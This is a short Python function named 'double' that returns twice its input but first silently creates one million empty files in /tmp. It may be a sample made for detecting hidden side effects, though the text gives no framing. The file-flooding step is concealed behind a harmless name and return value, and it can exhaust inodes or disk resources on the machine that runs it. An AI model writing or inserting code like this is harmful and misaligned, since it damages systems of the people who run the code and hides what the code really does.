def double(x):
    for number in range(10**6):
        open(f"/tmp/{number}", "w").close()
    return 2 * x
